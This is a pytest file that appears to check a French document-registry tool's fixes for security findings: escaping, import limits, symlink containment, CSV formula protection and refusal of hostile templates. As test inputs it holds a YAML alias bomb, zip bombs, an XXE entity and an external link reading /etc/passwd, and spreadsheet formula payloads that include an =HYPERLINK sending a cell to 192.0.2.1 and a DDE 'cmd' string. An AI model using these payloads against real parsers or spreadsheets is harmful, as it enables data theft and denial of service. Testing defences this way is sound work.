"""Issue 18's findings, each as a test that failed before its fix: what is printed is escaped, dates typed on the
command line follow the import's rule, a notice is shorter than its period, Ctrl-C exits 130."""

from __future__ import annotations

import io
import json
import os
import re
import signal
import socket
import subprocess
import sys
import time
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
import yaml
from hypothesis import given
from hypothesis import strategies as st
from pypdf import PdfWriter
from sqlalchemy import select

from pacte_docs.formatting import from_spreadsheet, spreadsheet_safe
from pacte_docs.registry.database import head_revision
from pacte_docs.registry.models import Document
from pacte_docs.workspace import Workspace
from tests.helpers import DATA, Pacte, add_paragraphs, docx_text, folder_state, registry_state, scanned_pdf


def test_markup_in_names_and_objects_is_printed_as_text(pacte: Pacte, tmp_path: Path) -> None:
    """« CCAS [/] A » crashed `partenaires lister` (Rich markup); an avenant object « [/bold] » made `conventions
    afficher` fail for ever, the journal being append-only."""
    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
    data["partenaires"][0]["nom"] = "CCAS [/] A [bold]"
    path = tmp_path / "balises.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    pacte("importer", str(path))
    listed = pacte("partenaires", "lister")
    assert "CCAS [/] A [bold]" in listed.output
    reference = data["conventions"][0]["reference"]
    pacte("--au", "2026-01-10", "conventions", "avenant", reference, "--objet", "[/bold] Objet [red]rouge[/red]",
          "--sans-pdf")
    shown = pacte("conventions", "afficher", reference)
    assert "[/bold] Objet [red]rouge[/red]" in " ".join(shown.output.split())


def test_dates_on_the_command_line_follow_the_import_rule(pacte: Pacte) -> None:
    """`--date 0001-01-01` was recorded (« 1er janvier 1 » in the act) and `--au 9999-12-31` overflowed; a date
    typed the French way was refused although the import accepts it."""
    pacte("importer", str(DATA / "alertes.yaml"))
    reference = "CCAS-2024-103"
    early = pacte("conventions", "avenant", reference, "--objet", "Objet.", "--date", "0001-01-01", "--sans-pdf",
                  ok=False)
    assert early.exit_code == 2 and "hors des années plausibles (1980 à 2100)" in early.output
    late = pacte("--au", "9999-12-31", "alertes", ok=False)
    assert late.exit_code == 2 and "Traceback" not in late.output and "hors des années plausibles" in late.output
    french = pacte("--au", "15/01/2027", "alertes", "--format", "json")
    assert isinstance(json.loads(french.output), list)


def test_a_notice_longer_than_the_period_is_refused(pacte: Pacte, tmp_path: Path) -> None:
    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
    data["conventions"][0].update(duree_mois=2, preavis_mois=3, renouvellement="tacite")
    path = tmp_path / "preavis.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = pacte("importer", str(path), ok=False)
    assert result.exit_code == 1
    assert "un préavis de 3 mois pour une période de 2 mois tomberait avant son début" in \
        " ".join(result.output.split())


@pytest.mark.lent  # a slow one: the whole suite runs it, the fast tier leaves it
def test_ctrl_c_exits_130(tmp_path: Path) -> None:
    """Interrupted by the user is not bad data: exit 130, a French line, no traceback (here while a slow SMTP
    server keeps the run waiting)."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    workspace = tmp_path / "espace"
    env = dict(os.environ, PACTE_SMTP_HOTE="127.0.0.1", PACTE_SMTP_PORT=str(server.getsockname()[1]))

    command = [sys.executable, "-m", "pacte_docs", "--espace", str(workspace)]
    for args in (("init", str(workspace)), ("importer", str(DATA / "alertes.yaml"))):
        subprocess.run([*command, *args], env=env, capture_output=True, check=True, timeout=60)
    process = subprocess.Popen([*command, "--au", "2027-01-29", "alertes", "--envoyer"], env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    server.settimeout(30)
    connection, _ = server.accept()  # the run now waits for a greeting that never comes
    time.sleep(0.5)
    process.send_signal(signal.SIGINT)
    _, err = process.communicate(timeout=30)
    connection.close()
    server.close()
    assert process.returncode == 130, err
    assert "Interrompu" in err and "Traceback" not in err


# ---------------------------------------------------------------- what a file may cost (one mechanism per family:
# files.read_input for every file a user gives, files.check_zip for every archive, counted YAML values, row and
# column limits, the bounded sandbox and its render deadline for templates)

MIB = 1024 * 1024


# Starts pacte from a small process of its own: a child's peak memory starts from its parent's (vfork then exec
# keep the parent's high-water mark), and pytest's own would count against pacte's.
_LAUNCHER = """
import os, subprocess, sys
child = subprocess.Popen(sys.argv[1:])
_, status, usage = os.wait4(child.pid, 0)
print(f"\\n@@{os.waitstatus_to_exitcode(status)} {usage.ru_maxrss}")
"""


def measured(pacte: Pacte, *args: str, timeout: float = 120) -> tuple[int, str, float]:
    """Run pacte in its own process: (exit code, what it printed, peak memory in MiB)."""
    command = [sys.executable, "-c", _LAUNCHER, sys.executable, "-m", "pacte_docs", "--espace", str(pacte.root),
               *args]
    result = subprocess.run(command, capture_output=True, text=True, timeout=timeout)
    output, _, tail = result.stdout.rpartition("@@")
    code, peak = tail.split()
    return int(code), output + result.stderr, int(peak) / 1024


def test_a_signed_copy_must_be_a_readable_pdf_of_reasonable_size(pacte: Pacte, tmp_path: Path) -> None:
    """/dev/zero was read until MemoryError, a FIFO hung, a 2 GB sparse file was archived as 2 GB, a garbage or
    encrypted « PDF » was accepted and then blocked the year's bilan."""
    pacte("importer", str(DATA / "alertes.yaml"))
    before = registry_state(pacte.root, pacte.base)
    fifo = tmp_path / "tube.pdf"
    os.mkfifo(fifo)
    sparse = tmp_path / "enorme.pdf"
    with sparse.open("wb") as handle:
        handle.write(scanned_pdf("x"))
        handle.truncate(2 * 1024 * MIB)
    garbage = tmp_path / "faux.pdf"
    garbage.write_bytes(b"%PDF-1.7\n" + os.urandom(4096))
    writer = PdfWriter(clone_from=io.BytesIO(scanned_pdf("EXEMPLAIRE SIGNE")))
    writer.encrypt("secret")
    locked = tmp_path / "verrouille.pdf"
    with locked.open("wb") as handle:
        writer.write(handle)
    cases = {"/dev/zero": "n'est pas un fichier ordinaire", str(fifo): "n'est pas un fichier ordinaire",
             str(sparse): "au-delà de la limite de 100 Mo", str(garbage): "est endommagé",
             str(locked): "protégé par un mot de passe"}
    for path, expected in cases.items():
        result = pacte("--au", "2027-02-15", "conventions", "signer", "CCAS-2027-105", "--date", "2027-02-10",
        "--fichier", path, ok=False)
        assert result.exit_code == 1, result.output
        assert expected in " ".join(result.output.split()) and "Traceback" not in result.output
    assert registry_state(pacte.root, pacte.base) == before
    assert not (pacte.root / "archives/conventions/CCAS-2027-105").exists()


def _alias_bomb(levels: int = 9) -> str:
    lines = ['l0: &l0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"l{i}: &l{i} [" + ",".join([f"*l{i - 1}"] * 9) + "]" for i in range(1, levels + 1)]
    return "\n".join(lines) + f"\npartenaires: *l{levels}\n"


def _xlsx(rows: list[str], shared: bytes | None = None, extra: dict[str, bytes] | None = None) -> bytes:
    """A minimal workbook, written entry by entry (openpyxl would refuse to write what these tests need)."""
    sheet = ('<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/'
             'spreadsheetml/2006/main"><sheetData>' + "".join(rows) + "</sheetData></worksheet>")
    entries = {
        "[Content_Types].xml": b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        b'relationships+xml"/><Default Extension="xml" ContentType="application/xml"/><Override PartName="/xl/'
        b'workbook.xml" ContentType="application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"/>'
        b'<Override PartName="/xl/worksheets/sheet1.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.worksheet+xml"/></Types>',
        "_rels/.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        b'relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>',
        "xl/workbook.xml": b'<?xml version="1.0"?><workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/'
        b'2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships"><sheets>'
        b'<sheet name="partenaires" sheetId="1" r:id="rId1"/></sheets></workbook>',
        "xl/_rels/workbook.xml.rels": b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.'
        b'org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/'
        b'officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>',
        "xl/worksheets/sheet1.xml": sheet.encode(),
        **(extra or {}),
    }
    if shared is not None:
        entries["xl/sharedStrings.xml"] = shared
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return out.getvalue()


def _row(number: int, *values: str) -> str:
    cells = "".join(f'<c r="{chr(65 + i)}{number}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values))
    return f'<row r="{number}">{cells}</row>'


@pytest.mark.lent
def test_import_bombs_are_refused_within_bounds(pacte_sqlite: Pacte, tmp_path: Path) -> None:
    """A 1 KB YAML file of nested aliases grew past 5 GB (a recursive one: RecursionError); a 1 048 576-row XLSX,
    a shared-strings zip bomb and a CSV line of millions of headers each took gigabytes; errors were printed
    without limit. Now each is refused at once, with its place, under 500 MiB, and nothing is recorded."""
    header = _row(1, "code", "type", "nom")
    files = {
        "bombe.yaml": (_alias_bomb().encode(), "le fichier se déploie en plus de 1 000 000 valeurs (alias imbriqués)"),
        "recursif.yaml": (b"partenaires: &x\n  - *x\n", "ligne 1 : alias récursif"),
        "profond.yaml": (b"partenaires: " + b"[" * 50_000 + b"]" * 50_000 + b"\n", "imbriqués trop profondément"),
        "lignes.xlsx": (_xlsx([header] + [_row(n, f"C{n}", "ccas", "x") for n in range(2, 100_004)]),
                        "plus de 100 000 lignes de données"),
        "chaines.xlsx": (_xlsx([header], shared=b"<sst>" + b" " * (300 * MIB) + b"</sst>"),
                         "se décompresse en 300 Mo, au-delà de la limite de 50 Mo"),
        "partenaires.csv": (b";".join(b"c%d" % i for i in range(3_000_000)) + b"\n", "3000000 colonnes"),
    }
    before = registry_state(pacte_sqlite.root, None)
    for name, (content, expected) in files.items():
        path = tmp_path / name
        path.write_bytes(content)
        code, output, peak = measured(pacte_sqlite, "importer", str(path))
        assert code == 1 and expected in " ".join(output.replace("\u202f", " ").split()), (name, output)
        assert "Traceback" not in output and peak < 500, (name, peak)
    assert registry_state(pacte_sqlite.root, None) == before


def test_a_file_with_thousands_of_problems_shows_the_first_fifty(pacte_sqlite: Pacte, tmp_path: Path) -> None:
    path = tmp_path / "partenaires.csv"
    path.write_text("code;type;nom\n" + "".join(f"p{n};inconnu;Nom {n}\n" for n in range(3000)), encoding="utf-8")
    result = pacte_sqlite("importer", str(path), ok=False)
    assert result.exit_code == 1
    assert result.output.count("  • ") == 50 and "… et " in result.output and "autres : corrigez d'abord" in \
        result.output


def _template_with(path: Path, *, paragraph: str | None = None, entries: dict[str, bytes] | None = None,
                   edit: dict[str, Callable[[bytes], bytes]] | None = None) -> None:
    """The template at *path* with a paragraph added, entries added, or entries rewritten."""
    if paragraph is not None:
        add_paragraphs(path, paragraph)
    source = zipfile.ZipFile(io.BytesIO(path.read_bytes()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            content = source.read(info.filename)
            rewrite = (edit or {}).get(info.filename)
            target.writestr(info.filename, rewrite(content) if rewrite else content)
        for name, content in (entries or {}).items():
            target.writestr(name, content)
    path.write_bytes(out.getvalue())


_EXTERNAL_IMAGE = (b'<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/'
                   b'image" Target="file:///etc/passwd" TargetMode="External"/></Relationships>')
_FIELD = (b'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> INCLUDEPICTURE '
          b'"http://192.0.2.1/logo.png" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p></w:body>')
_ENTITY = (b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>'
           b'<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" '
           b'xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>&e;</dc:title></cp:coreProperties>')
HOSTILE_TEMPLATES: dict[str, tuple[dict[str, Any], str]] = {
    "bombe": ({"entries": {"word/media/bombe.bin": bytes(300 * MIB)}},
              "se décompresse en 301 Mo, au-delà de la limite de 100 Mo"),
    "macros": ({"entries": {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0macro"}}, "le modèle contient des macros"),
    "image liée": ({"edit": {"word/_rels/document.xml.rels": lambda c: c.replace(b"</Relationships>",
                                                                                  _EXTERNAL_IMAGE)}},
                   "élément « image » lié à un fichier extérieur au document"),
    "champ": ({"edit": {"word/document.xml": lambda c: c.replace(b"</w:body>", _FIELD, 1)}},
              "champ INCLUDEPICTURE : il lit un fichier ou une adresse extérieurs"),
    "entité": ({"edit": {"docProps/core.xml": lambda _: _ENTITY}}, "déclaration DOCTYPE ou entité XML"),
    "répétition": ({"paragraph": "{{ 'x' * 10**9 }}"}, "une répétition dépasserait la taille permise"),
    "remplissage": ({"paragraph": "{{ convention.objet|center(10**9) }}"}, "le filtre « center » dépasserait"),
    "macro récursive": ({"paragraph": "{% macro m(n) %}{{ m(n) }}{% endmacro %}{{ m(1) }}"},
                        "une macro s'appelle elle-même sans fin"),
    "boucles": ({"paragraph": "{% for i in range(100000) %}{% for j in range(100000) %}{% endfor %}{% endfor %}"},
                "le document n'est pas rendu en 2 s"),
}


@pytest.mark.lent  # a 300 MB zip bomb and a 2 s render deadline among them
@pytest.mark.parametrize("case", sorted(HOSTILE_TEMPLATES))
def test_a_hostile_template_is_refused_and_writes_nothing(pacte_sqlite: Pacte, case: str) -> None:
    """A zip-bomb template took 3 GB; `{{ 'x' * 10**9 }}`, nested loops and a recursive macro ran without limit;
    a picture linked to file:// or http:// was read by the conversion; macros were copied into every convention;
    an entity in docProps/core.xml gave a traceback. Each is now refused, by `modeles verifier` for what the file
    holds, by `generer` for what rendering would do, with nothing written and under 500 MiB."""
    pacte = pacte_sqlite
    pacte("importer", str(DATA / "registre.yaml"))
    config = pacte.root / "pacte.toml"
    config.write_text(config.read_text(encoding="utf-8").replace("delai_rendu_secondes = 60",
                                                                 "delai_rendu_secondes = 2"), encoding="utf-8")
    change, expected = HOSTILE_TEMPLATES[case]
    _template_with(pacte.root / "modeles/convention_ccas.docx", **change)
    before = folder_state(pacte.root)
    registry = registry_state(pacte.root, None)
    code, output, peak = measured(pacte, "conventions", "generer", "CCAS-2024-010", "--sans-pdf")
    assert code == 1 and expected in " ".join(output.split()), output
    assert "Traceback" not in output and peak < 500, peak
    assert folder_state(pacte.root) == before and registry_state(pacte.root, None) == registry
    if "paragraph" not in change:  # what the file holds is seen without rendering
        checked = pacte("modeles", "verifier", "convention_ccas", ok=False)
        assert checked.exit_code == 1 and expected in " ".join(checked.output.split()), checked.output


def test_a_convention_names_its_template_never_a_path(pacte_sqlite: Pacte, tmp_path: Path) -> None:
    """An imported `modele: /elsewhere/evil` was used for generation."""
    evil = tmp_path / "ailleurs" / "evil.docx"
    evil.parent.mkdir()
    evil.write_bytes((pacte_sqlite.root / "modeles/convention_ccas.docx").read_bytes())
    data = yaml.safe_load((DATA / "registre.yaml").read_text(encoding="utf-8"))
    data["conventions"][0]["modele"] = str(evil.with_suffix(""))
    path = tmp_path / "chemin.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    result = pacte_sqlite("importer", str(path), ok=False)
    assert result.exit_code == 1
    assert "n'est pas un nom de modèle" in result.output and "sans chemin ni extension" in result.output
    data["conventions"][0]["modele"] = "convention_ccas.docx"  # the file's name is understood
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    pacte_sqlite("importer", str(path))


def test_a_symlinked_folder_never_takes_a_document_out_of_the_workspace(pacte_sqlite: Pacte, tmp_path: Path) -> None:
    """A conventions/REF folder linked to /tmp made the tool write outside the workspace; so would an archives
    folder for a signed copy."""
    pacte = pacte_sqlite
    pacte("importer", str(DATA / "registre.yaml"))
    outside = tmp_path / "dehors"
    outside.mkdir()
    (pacte.root / "conventions/CCAS-2024-010").symlink_to(outside, target_is_directory=True)
    registry = registry_state(pacte.root, None)
    result = pacte("conventions", "generer", "CCAS-2024-010", "--sans-pdf", ok=False)
    assert result.exit_code == 1 and "mène hors de l'espace de travail" in result.output
    assert list(outside.iterdir()) == [] and registry_state(pacte.root, None) == registry
    (pacte.root / "archives/conventions").mkdir(parents=True, exist_ok=True)
    (pacte.root / "archives/conventions/ASSO-2025-001").symlink_to(outside, target_is_directory=True)
    scan = tmp_path / "scan.pdf"
    scan.write_bytes(scanned_pdf("EXEMPLAIRE SIGNE"))
    signed = pacte("conventions", "signer", "ASSO-2025-001", "--date", "2025-02-01", "--fichier", str(scan), ok=False)
    assert signed.exit_code == 1 and "mène hors de l'espace de travail" in signed.output
    assert list(outside.iterdir()) == [] and registry_state(pacte.root, None) == registry


def test_csv_cells_a_spreadsheet_would_compute_are_protected(pacte: Pacte, tmp_path: Path) -> None:
    """CSV exports and listings wrote `=HYPERLINK(…)` as is: Excel computes it. Now a leading = + - @ gets an
    apostrophe (the import takes it off again: the round trip keeps the text), numbers are left alone, and
    `--brut` keeps the exact text."""
    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
    formula = '=HYPERLINK("http://192.0.2.1/?"&A1;"Cliquez")'
    data["partenaires"][0]["nom"] = formula
    data["partenaires"][1]["nom"] = "@SUM(1+1)*cmd|' /C calc'!A0"
    path = tmp_path / "formules.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    pacte("importer", str(path))
    listed = pacte("partenaires", "lister", "--format", "csv").output
    assert "'=HYPERLINK" in listed and "'@SUM" in listed
    assert not any(cell.startswith(("=", "@")) for line in listed.splitlines() for cell in line.split(";"))
    raw = pacte("partenaires", "lister", "--format", "csv", "--brut").output
    assert '"=HYPERLINK(""http://192.0.2.1/?""&A1;""Cliquez"")"' in raw
    exported = tmp_path / "export.csv"
    pacte("exporter", str(exported))
    partners = (tmp_path / "export-partenaires.csv").read_text(encoding="utf-8-sig")
    assert "'=HYPERLINK" in partners and "'@SUM" in partners
    pacte("exporter", str(tmp_path / "brut.csv"), "--brut")
    assert '"=HYPERLINK' in (tmp_path / "brut-partenaires.csv").read_text(encoding="utf-8-sig")
    again = Pacte(tmp_path / "autre", pacte.base)
    again("init", str(again.root))
    if pacte.base:
        return  # one shared base: the round trip into a second workspace is the SQLite case
    again("importer", *(str(p) for p in sorted(tmp_path.glob("export-*.csv"))))
    names = {row["code"]: row["nom"] for row in json.loads(again("partenaires", "lister", "--format", "json").output)}
    assert names[data["partenaires"][0]["code"]] == formula


def test_ics_text_is_escaped_as_rfc_5545_says(pacte: Pacte, tmp_path: Path) -> None:
    """A name holding « BEGIN:VEVENT » doubled the count of events in the message; a literal \\N became a newline
    in the calendar."""
    import icalendar

    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
    name = "CCAS \\N BEGIN:VEVENT; a, b"
    data["partenaires"][0]["nom"] = name
    path = tmp_path / "agenda.yaml"
    path.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    pacte("importer", str(path))
    target = tmp_path / "echeances.ics"
    result = pacte("--au", "2027-01-15", "alertes", "--ics", str(target))
    events = icalendar.Calendar.from_ical(target.read_bytes()).walk("VEVENT")
    assert len(events) == 6 and f"Calendrier écrit : {target} (6 échéances)" in result.output, result.output
    summaries = [str(e["SUMMARY"]) for e in events]
    assert any(name in s for s in summaries) and not any("\n" in s for s in summaries)


def _with_file_size_limit(limit: int) -> Callable[[], None]:
    def apply() -> None:  # in the child: a write past *limit* bytes fails with EFBIG, as a full disk fails
        import resource

        signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))
    return apply


@pytest.mark.lent  # a slow one: the whole suite runs it, the fast tier leaves it
def test_a_full_disk_while_writing_a_document_keeps_the_current_one(pacte_sqlite: Pacte, tmp_path: Path) -> None:
    """A full disk while writing a DOCX left the current document missing until a rerun: its predecessor was
    archived before the new bytes were on disk. The kernel's file size limit makes the write fail for real."""
    pacte = pacte_sqlite
    _template_with(pacte.root / "modeles/convention_ccas.docx", entries={"word/media/fond.bin": os.urandom(400_000)})
    pacte("importer", str(DATA / "alertes.yaml"))
    pacte("conventions", "generer", "CCAS-2027-105", "--sans-pdf")
    current = pacte.root / "conventions/CCAS-2027-105/CCAS-2027-105.docx"
    before_bytes = current.read_bytes()
    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
    next(c for c in data["conventions"] if c["reference"] == "CCAS-2027-105")["objet"] = "Objet modifié."
    changed = tmp_path / "modifie.yaml"
    changed.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    pacte("importer", str(changed))
    registry = registry_state(pacte.root, None)
    result = subprocess.run([sys.executable, "-m", "pacte_docs", "--espace", str(pacte.root), "conventions",
                             "generer", "CCAS-2027-105", "--sans-pdf"], capture_output=True, text=True, timeout=120,
                            preexec_fn=_with_file_size_limit(200_000))
    assert result.returncode == 3, result.stdout + result.stderr
    assert "Écriture ou lecture impossible" in result.stderr and "Traceback" not in result.stderr
    assert current.read_bytes() == before_bytes and registry_state(pacte.root, None) == registry
    assert not list(current.parent.glob(".*.tmp"))
    assert pacte("archives", "verifier").exit_code == 0
    pacte("conventions", "generer", "CCAS-2027-105", "--sans-pdf")  # room again: the new version, the old archived
    assert "Objet modifié." in docx_text(current)
    assert (pacte.root / "archives/conventions/CCAS-2027-105/CCAS-2027-105-v1.docx").read_bytes() == before_bytes


@pytest.mark.lent  # a slow one: the whole suite runs it, the fast tier leaves it
def test_database_configuration_and_terminal_faults_are_said_in_french(pacte_sqlite: Pacte) -> None:
    """A non-SQLite, corrupted or truncated pacte.db, a schema newer than the tool, PACTE_SMTP_PORT=²,
    `--rediriger 'a@x.fr, b@y.fr'`, `delai_pdf_secondes = inf` and a terminal that cannot show « é » each ended in a
    raw traceback."""
    pacte = pacte_sqlite
    pacte("importer", str(DATA / "alertes.yaml"))
    database = pacte.root / "pacte.db"
    good = database.read_bytes()

    def run(*args: str, **env: str) -> subprocess.CompletedProcess[str]:
        return subprocess.run([sys.executable, "-m", "pacte_docs", "--espace", str(pacte.root), *args],
                              capture_output=True, text=True, timeout=120, env=dict(os.environ, **env))

    for content, expected in ((b"pas une base de donnees\n" * 100, "file is not a database"),
                              (good[:5000], "malformed")):
        database.write_bytes(content)
        result = run("conventions", "lister")
        assert result.returncode == 3 and "Traceback" not in result.stderr, result.stderr
        assert f"Le registre ({database}) n'est pas une base de données lisible" in result.stderr
        assert expected in result.stderr and "Restaurez-le depuis votre sauvegarde" in result.stderr
        assert database.read_bytes() == content  # nothing written over it
    database.write_bytes(good)
    import sqlite3

    with sqlite3.connect(database) as connection:
        connection.execute("UPDATE alembic_version SET version_num = '0099_avenir'")
    newer = run("conventions", "lister")
    assert newer.returncode == 3 and "mis à jour par une version plus récente de pacte" in newer.stderr
    assert "« 0099_avenir »" in newer.stderr
    with sqlite3.connect(database) as connection:
        connection.execute(f"UPDATE alembic_version SET version_num = '{head_revision()}'")
    port = run("--au", "2027-01-15", "alertes", "--envoyer", PACTE_SMTP_PORT="²")
    assert port.returncode == 1 and "Port SMTP « ² » invalide" in port.stderr and "Traceback" not in port.stderr
    two = run("--au", "2027-01-15", "alertes", "--envoyer", "--rediriger", "a@x.fr, b@y.fr")
    assert two.returncode == 1 and "une virgule : donnez une seule adresse" in two.stderr
    ascii_terminal = run("partenaires", "lister", PYTHONIOENCODING="ascii")
    assert ascii_terminal.returncode == 0 and "Traceback" not in ascii_terminal.stderr
    assert "CCAS d'Ivry-sur-Seine" in ascii_terminal.stdout
    config = pacte.root / "pacte.toml"
    config.write_text(config.read_text(encoding="utf-8").replace("delai_pdf_secondes = 600",
                                                                 "delai_pdf_secondes = inf"), encoding="utf-8")
    infinite = run("conventions", "lister")
    assert infinite.returncode == 1 and "delai_pdf_secondes" in infinite.stderr
    assert "doit être un nombre de secondes, de plus de 0 à 86400" in infinite.stderr


def test_two_sites_on_one_registry_keep_their_documents_apart(pacte: Pacte, tmp_path: Path) -> None:
    """A second site with `--base` on the first site's registry deleted the first site's records (« avaient
    disparu »); the first site then reported its own files as unknown, and regenerating did not repair it. Each
    workspace now records its documents under its own identifier ([espace] identifiant of its pacte.toml)."""
    first = pacte
    first("importer", str(DATA / "alertes.yaml"))
    first("conventions", "generer", "--toutes", "--sans-pdf")
    shared = first.base or f"sqlite:///{first.root / 'pacte.db'}"
    second = Pacte(tmp_path / "site-2", shared)
    second("init", str(second.root))

    def records(site: Pacte) -> list[tuple[str, str, bool, int]]:
        with Workspace(site.root, shared) as ws, ws.db.session() as session:
            return sorted((d.chemin, d.sha256, d.archive, d.version) for d in session.scalars(
                select(Document).where(Document.site == ws.site)))

    def intact(site: Pacte) -> bool:
        return "tous intacts, aucun fichier inconnu" in site("archives", "verifier").output

    first_records = records(first)
    made = second("conventions", "generer", "--toutes", "--sans-pdf").output
    assert "disparu" not in made
    assert records(first) == first_records and len(records(second)) == len(first_records)
    assert intact(first) and intact(second)
    data = yaml.safe_load((DATA / "alertes.yaml").read_text(encoding="utf-8"))
    next(c for c in data["conventions"] if c["reference"] == "CCAS-2027-105")["objet"] = "Objet revu."
    changed = tmp_path / "revu.yaml"
    changed.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    first("importer", str(changed))
    second_records = records(second)
    first("conventions", "generer", "CCAS-2027-105", "--sans-pdf")  # the first site archives its v1, makes its v2
    assert records(second) == second_records
    assert "archives/conventions/CCAS-2027-105/CCAS-2027-105-v1.docx" in [r[0] for r in records(first)]
    assert intact(first) and intact(second)
    second("conventions", "generer", "CCAS-2027-105", "--sans-pdf")
    assert "Objet revu." in docx_text(second.root / "conventions/CCAS-2027-105/CCAS-2027-105.docx")
    assert (second.root / "archives/conventions/CCAS-2027-105/CCAS-2027-105-v1.docx").is_file()
    assert intact(first) and intact(second)


@pytest.mark.lent  # a slow one: the whole suite runs it, the fast tier leaves it
def test_a_read_only_workspace_can_still_be_consulted(tmp_path: Path) -> None:
    """On a read-only workspace (a share mounted read-only, an archived copy) even listings and `archives
    verifier` failed: SQLite in WAL mode needs to create its -shm file. The registry is now opened immutable when
    it cannot be written; a command that would change it says so in French. The workspace is really read-only:
    bind-mounted read-only over itself (root writes through permission bits, not through a read-only mount)."""
    workspace = tmp_path / "espace"
    pacte = Pacte(workspace, None)
    pacte("init", str(workspace))
    pacte("importer", str(DATA / "alertes.yaml"))
    pacte("conventions", "generer", "--toutes", "--sans-pdf")
    before = folder_state(workspace)
    subprocess.run(["mount", "--bind", str(workspace), str(workspace)], check=True)
    try:
        subprocess.run(["mount", "-o", "remount,bind,ro", str(workspace)], check=True)

        def run(*args: str) -> subprocess.CompletedProcess[str]:
            return subprocess.run([sys.executable, "-m", "pacte_docs", "--espace", str(workspace), *args],
                                  capture_output=True, text=True, timeout=120)

        shown = {}
        for args in (("conventions", "lister"), ("partenaires", "lister"), ("archives", "verifier"),
                     ("--au", "2027-01-15", "alertes"), ("conventions", "afficher", "CCAS-2024-101")):
            result = run(*args)
            assert result.returncode == 0, (args, result.stderr)
            shown[" ".join(args)] = result.stdout
        assert "CCAS-2024-101" in shown["conventions lister"] and "tous intacts" in shown["archives verifier"]
        signed = run("--au", "2027-02-15", "conventions", "signer", "CCAS-2027-105", "--date", "2027-02-10")
        assert signed.returncode == 3 and "Le registre est en lecture seule pour vous" in signed.stderr
        assert "Traceback" not in signed.stderr
    finally:
        subprocess.run(["umount", str(workspace)], check=True)
    assert folder_state(workspace) == before


@given(text=st.text(max_size=20) | st.sampled_from(["'+x", "''", "=1+1", "-12,5", "'", "@SUM(A1)"]))
def test_spreadsheet_protection_gives_back_any_text(text: str) -> None:
    """A text beginning with an apostrophe and a formula sign lost its apostrophe in a CSV round trip."""
    protected = spreadsheet_safe(text)
    assert from_spreadsheet(protected) == text
    # left unprotected with a leading sign: a plain number only (« +0.0 », « +12,5 »), which no spreadsheet runs
    assert not protected.startswith(("=", "+", "@", "\t", "\r")) or re.fullmatch(r"\+\d+([.,]\d+)?", protected)
